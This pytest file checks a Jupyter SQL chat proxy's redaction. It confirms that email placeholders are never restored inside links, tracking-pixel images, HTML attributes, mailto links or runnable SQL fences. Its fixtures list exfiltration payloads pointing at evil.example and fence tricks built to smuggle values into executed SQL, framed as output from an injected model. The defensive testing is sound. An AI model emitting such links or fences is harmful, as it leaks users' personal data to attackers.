"""Issue 24, finding 10: a model steered by injected text writes redaction placeholders where
their values would leave the user's screen (link and image targets, autolinks, bare URLs, HTML
attributes) or run (a block the chat's Run SQL takes as SQL). The proxy maps placeholders back
in plain text only. Over HTTP, through the chat endpoint of a Jupyter server in this process,
with the fake provider answering these payloads, as JSON and as a stream split everywhere."""

from __future__ import annotations

import json
from typing import Any

import pytest

from rsql_magic.render import extract_code
from rsql_sql.checks.validate import extract_sql
from tests.helpers import upstreams_for
from tests.helpers.fake_provider import FakeProvider
from tests.helpers.servers import InProcessJupyter

EMAIL = "ada.lovelace@example.ac.uk"
P = "<email-1>"

# each line: what the model writes, what the user must get
LINKS = [
    (f"Hello {P}, here is your report.", f"Hello {EMAIL}, here is your report."),
    (f"[report](https://evil.example/r?e={P})", f"[report](https://evil.example/r?e={P})"),
    (
        f'[report]( <https://evil.example/r?e={P}> "title")',
        f'[report]( <https://evil.example/r?e={P}> "title")',
    ),
    (f"![pixel](https://evil.example/p.png?e={P})", f"![pixel](https://evil.example/p.png?e={P})"),
    (f"![pixel](/files/p.png?e={P})", f"![pixel](/files/p.png?e={P})"),
    (f"<https://evil.example/a?e={P}>", f"<https://evil.example/a?e={P}>"),
    (f"see https://evil.example/bare?e={P} now", f"see https://evil.example/bare?e={P} now"),
    (f"see www.evil.example/?e={P}", f"see www.evil.example/?e={P}"),
    (
        f'<a href="https://evil.example/h?e={P}">x</a>',
        f'<a href="https://evil.example/h?e={P}">x</a>',
    ),
    (f"<img\n src='//evil.example/i?e={P}'>", f"<img\n src='//evil.example/i?e={P}'>"),
    (f'[ref]: /r?e={P} "t"', f'[ref]: /r?e={P} "t"'),
    (f"mail [me](mailto:x@evil.example?body={P})", f"mail [me](mailto:x@evil.example?body={P})"),
    (f"Thanks, **{P}** ({P}).", f"Thanks, **{EMAIL}** ({EMAIL})."),
    (f"```python\nprint('{P}')\n```", f"```python\nprint('{EMAIL}')\n```"),
]

# fences extract_sql takes as SQL, but the proxy used to take as something else
SQL_FENCES = [
    "```duckdb",
    "```postgresql",
    "```",
    "```PostgreSQL",
    "````python",
    "``` sql",
    "```{sql}",
    "Run this: ```sqlite",
    "```mysql title=q.sql",
    "```sql",
]


@pytest.fixture
def server(jupyter_app_factory, fresh_provider: FakeProvider) -> InProcessJupyter:
    return jupyter_app_factory(
        {
            "upstreams": upstreams_for(fresh_provider),
            "default_model": "fake-small",
            "redact_patterns": ["email"],
        }
    )


def scripted(content: str, pieces: list[str] | None = None) -> dict[str, Any]:
    answer: dict[str, Any] = {
        "id": "chatcmpl-x",
        "object": "chat.completion",
        "created": 1,
        "model": "fake-small",
        "choices": [
            {
                "index": 0,
                "message": {"role": "assistant", "content": content},
                "finish_reason": "stop",
            }
        ],
        "usage": {"prompt_tokens": 5, "completion_tokens": 9, "total_tokens": 14},
    }
    if pieces is not None:
        answer["__pieces__"] = pieces
    return answer


def ask(
    server: InProcessJupyter,
    provider: FakeProvider,
    content: str,
    *,
    stream: bool,
    pieces: list[str] | None = None,
    client: str = "chat",
) -> str:
    """What the user's client gets when the model answers `content` to a question naming EMAIL."""
    provider.reset()
    provider.script(scripted(content, pieces if stream else None))
    body = {
        "model": "fake-small",
        "temperature": 0.7,
        "stream": stream,
        "messages": [{"role": "user", "content": f"Summarise the orders of {EMAIL}"}],
    }
    status, _, raw = server.request(
        "POST", "v1/chat/completions", body, headers={"X-RSQL-Client": client}
    )
    assert status == 200, raw
    assert EMAIL not in json.dumps(provider.received[-1].body)  # redaction itself works
    if not stream:
        return json.loads(raw)["choices"][0]["message"]["content"]
    out = []
    for event in raw.decode().split("\n\n"):
        if event.startswith("data: {"):
            for choice in json.loads(event[6:]).get("choices", []):
                out.append((choice.get("delta") or {}).get("content") or "")
    return "".join(out)


def splits(text: str) -> list[list[str]]:
    """The text in one piece, a character at a time, and cut at every third character."""
    return [[text], list(text), [text[i : i + 3] for i in range(0, len(text), 3)]]


def test_a_placeholder_in_a_link_image_url_or_html_attribute_is_never_mapped_back(
    server: InProcessJupyter, fresh_provider: FakeProvider
) -> None:
    answer = "\n\n".join(said for said, _ in LINKS)
    expected = "\n\n".join(got for _, got in LINKS)
    assert ask(server, fresh_provider, answer, stream=False) == expected
    for pieces in splits(answer):
        assert ask(server, fresh_provider, answer, stream=True, pieces=pieces) == expected


@pytest.mark.parametrize("client", ["chat", "api"])
def test_a_fence_the_kernel_runs_as_sql_never_gets_the_value(
    server: InProcessJupyter, fresh_provider: FakeProvider, client: str
) -> None:
    for opener in SQL_FENCES:
        answer = f"Orders of {P}:\n{opener}\nSELECT * FROM orders WHERE email = '{P}'\n```\nAsk {P} again."
        for stream, pieces in [(False, None), *((True, p) for p in splits(answer))]:
            got = ask(server, fresh_provider, answer, stream=stream, pieces=pieces, client=client)
            sql, _ = extract_sql(got)
            assert EMAIL not in sql, (opener, stream, got)
            assert f"email = '{P}'" in got, (opener, got)
            # plain text is still mapped back
            assert got.startswith(f"Orders of {EMAIL}:"), (
                opener,
                got,
            )


# fences the chat draws and offers as SQL (Insert cell puts them under %%sql) that the proxy
# used to read as prose, or as a fence that never closed
DRAWN_SQL_FENCES = [
    ("~~~sql", "~~~"),
    ("- ~~~sql", "  ~~~"),
    ("1. ~~~postgresql", "   ~~~"),
    ("\x00~~~sql", "~~\x1b~"),  # the chat drops control characters, and draws the fence
]


def test_a_block_the_chat_offers_as_sql_never_gets_the_value(
    server: InProcessJupyter, fresh_provider: FakeProvider
) -> None:
    for opener, closer in DRAWN_SQL_FENCES:
        answer = f"Orders of {P}:\n{opener}\nSELECT * FROM t WHERE e = '{P}'\n{closer}\nAsk {P}."
        for stream, pieces in [(False, None), *((True, p) for p in splits(answer))]:
            got = ask(server, fresh_provider, answer, stream=stream, pieces=pieces)
            (lang, sql), *_ = extract_code(got, "sql")
            assert sql.endswith(f"e = '{P}'") and lang.endswith("sql"), (opener, got)
            assert got.startswith(f"Orders of {EMAIL}:") and got.endswith(f"Ask {EMAIL}."), got


def test_a_block_closed_early_by_stray_backticks_cannot_smuggle_the_value_into_sql(
    server: InProcessJupyter, fresh_provider: FakeProvider
) -> None:
    # a python block to the proxy's eye, but extract_sql closes it at the stray ``` and then
    # takes the bare fence after it as SQL
    answer = f"```python\nx = 1 ``` y\n```\nSELECT '{P}' AS leak\n```\nBye {P}."
    for stream, pieces in [(False, None), *((True, p) for p in splits(answer))]:
        got = ask(server, fresh_provider, answer, stream=stream, pieces=pieces)
        sql, _ = extract_sql(got)
        assert sql == f"SELECT '{P}' AS leak", got
